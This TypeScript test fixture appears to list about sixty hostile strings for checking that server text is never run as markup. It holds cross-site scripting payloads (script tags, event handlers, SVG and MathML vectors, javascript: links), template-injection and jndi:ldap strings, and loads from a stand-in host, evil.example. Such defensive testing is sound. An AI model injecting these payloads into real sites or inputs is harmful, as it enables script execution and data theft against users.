import { MARK } from './watch';

/** Sixty texts that no honest server sends. Each runs a script or opens an address if it is used as more than text. */

const run = `window.${MARK}=1`;
const evil = 'https://evil.example';
const onEvent = (element: string, event: string, more = '') =>
  `<${element} on${event}="${run}"${more}>`;

export const hostileStrings: readonly string[] = [
  // Elements with a script.
  [`<script>${run}</script>`, `"><script>${run}</script>`, `</script><script>${run}</script>`],
  [`<script src="${evil}/x.js"></script>`, `<script type="module">import "${evil}/x.js"</script>`],
  [
    `<iframe src="javascript:parent.${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  ],
  [`<object data="javascript:${run}"></object>`, `<base href="${evil}/">`],
  [
    `<meta http-equiv="refresh" content="0;url=${evil}/">`,
    `<link rel="stylesheet" href="${evil}/x.css">`,
  ],
  [
    `<form action="${evil}/"><input name="pin" autofocus></form>`,
    `<button formaction="javascript:${run}">x</button>`,
  ],
  [`<a href="javascript:${run}" autofocus>x</a>`, `<template><script>${run}</script></template>`],
  [
    `<noscript><p title="</noscript>${onEvent('img', 'error', ' src=x')}"></noscript>`,
    `<!--><img src=x onerror=${run}>-->`,
  ],
  // Handlers of events that occur by themselves.
  [
    onEvent('img', 'error', ' src=x'),
    onEvent('img', 'load', ' src="data:,"'),
    onEvent('body', 'load'),
    onEvent('body', 'pageshow'),
  ],
  [onEvent('video', 'error', ' src=x'), onEvent('input', 'focus', ' autofocus')],
  [onEvent('details', 'toggle', ' open'), onEvent('marquee', 'start'), onEvent('style', 'load')],
  [
    onEvent('p', 'animationstart', ' style="animation:x 1s"'),
    onEvent('select', 'focus', ' autofocus'),
  ],
  [
    `' onerror='${run}' src='x`,
    `" onmouseover="${run}" x="`,
    `x\` onerror=${run}`,
    `<IMG SRC=x ONERROR=${run}//`,
  ],
  // Drawings and formulas.
  [
    onEvent('svg', 'load'),
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin="${run}" attributeName="x"/></svg>`,
  ],
  [
    `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg onload=${run}>"/></svg>`,
  ],
  [
    `<math><mtext><img src=x onerror=${run}></mtext></math>`,
    `<math href="javascript:${run}">x</math>`,
  ],
  [`<svg><foreignObject><iframe src="javascript:parent.${run}"/></foreignObject></svg>`],
  // Templates and messages.
  [
    `{{constructor.constructor('${run}')()}}`,
    `\${${run}}`,
    `{{${run}}} {{- title}} $t(common:retry)`,
  ],
  [`#{${run}}`, `%s%n%x\${jndi:ldap://evil.example/x}`, `__proto__[${MARK}]=1`],
  // Styles.
  [
    `</style><script>${run}</script>`,
    `red;background:url(${evil}/x)`,
    `</title><img src=x onerror=${run}>`,
  ],
  [
    `<style>@import "${evil}/x.css"; * { display: none }</style>`,
    `<b style="position:fixed;inset:0;background:url(${evil}/y)">x</b>`,
  ],
  // Links in place of a text.
  [`javascript:${run}`, `data:text/html,<script>parent.${run};opener.${run}</script>`, `${evil}/`],
  // Direction marks, control characters and bytes that end a text.
  [
    '\u202e\u2066gnp.exe\u2069',
    '\u0000\u0001\u001b[2J\u200b\ufeff',
    `\u2028${run}\u2029`,
    `\ud800<img src=x onerror=${run}>`,
  ],
  ['＜script＞window.__hit=1＜/script＞', `+ADw-script+AD4-${run}+ADw-/script+AD4-`],
].flat();
